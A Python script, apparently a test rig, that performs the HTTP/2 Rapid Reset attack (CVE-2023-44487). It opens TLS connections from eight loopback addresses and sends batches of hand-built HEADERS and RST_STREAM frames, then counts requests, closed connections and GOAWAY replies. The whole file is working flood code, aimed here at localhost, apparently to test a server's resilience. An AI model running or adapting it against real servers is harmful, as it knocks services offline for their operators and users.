#!/usr/bin/env python3
"""Begins requests over HTTP/2 and resets each at once (CVE-2023-44487), on connections of eight addresses, until it is told to end.

    rigs/rapid_reset.py PORT PATH

It says nothing but, at its end, a line of JSON: how many requests it sent, and how many connections the server ended, how many of them
with GOAWAY. A connection that was ended is followed by another after a moment: who shakes hands as often as it can is another attack.
"""
import json
import signal
import socket
import ssl
import sys
import threading
import time

ADDRESSES = 8
PAUSE_S = 0.1
# Requests that are sent before it is looked whether the connection is there.
BATCH = 64
GOAWAY = 7


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A field in no table (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


class Attacker(threading.Thread):
    """One address, which has one connection after another."""

    def __init__(self, n, port, path, over):
        super().__init__()
        self.source, self.port, self.over = f"127.4.{n}.1", port, over
        self.head = b"".join(field(name, value) for name, value in (
            (b":method", b"GET"), (b":scheme", b"https"), (b":path", path.encode()), (b":authority", b"localhost")))
        self.requests = self.ended = self.goaways = 0
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE
        self.tls.set_alpn_protocols(["h2"])

    def run(self):
        while not self.over.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=10, source_address=(self.source, 0)) as plain:
                    with self.tls.wrap_socket(plain) as line:
                        self.rush(line)
            except OSError:
                pass
            time.sleep(PAUSE_S)

    def rush(self, line):
        stream = 1
        try:
            line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            while not self.over.is_set():
                batch = b"".join(frame(1, 5, one, self.head) + frame(3, 0, one, b"\0\0\0\x08") for one in range(stream, stream + 2 * BATCH, 2))
                line.sendall(batch)
                self.requests += BATCH
                stream += 2 * BATCH
        except OSError:
            self.ended += 1
        said = b""
        try:
            line.settimeout(1)
            while piece := line.recv(65536):
                said += piece
        except OSError:
            pass
        while len(said) >= 9:
            self.goaways += said[3] == GOAWAY
            said = said[9 + int.from_bytes(said[:3], "big"):]


def main():
    over = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: over.set())
    attackers = [Attacker(n, int(sys.argv[1]), sys.argv[2], over) for n in range(ADDRESSES)]
    for one in attackers:
        one.start()
    for one in attackers:
        one.join()
    total = {what: sum(getattr(one, what) for one in attackers) for what in ("requests", "ended", "goaways")}
    print(json.dumps(total), flush=True)


if __name__ == "__main__":
    main()
